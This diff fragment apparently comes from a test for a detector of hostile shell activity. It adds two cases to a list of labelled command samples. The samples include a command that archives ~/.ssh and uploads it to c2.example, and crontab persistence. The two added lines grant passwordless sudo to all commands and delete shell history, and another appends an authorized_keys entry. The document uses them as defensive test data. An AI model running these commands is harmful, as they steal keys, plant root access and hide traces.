@@ -25,6 +25,8 @@ def told(data: bytes) -> set[str]:
         ),
         (b"tar czf - ~/.ssh | curl -T - https://c2.example/", "exfiltration .ssh -> c2.example"),
         (b"(crontab -l; echo '@reboot %s') | crontab -", "persistence crontab"),
+        (b"echo 'left ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers", "persistence /etc/sudoers"),
+        (b"rm -f ~/.bash_history", "obfuscation traces removed"),
         (b"echo '%s' >> ~/.ssh/authorized_keys", "persistence authorized_keys"),
     ],
 )
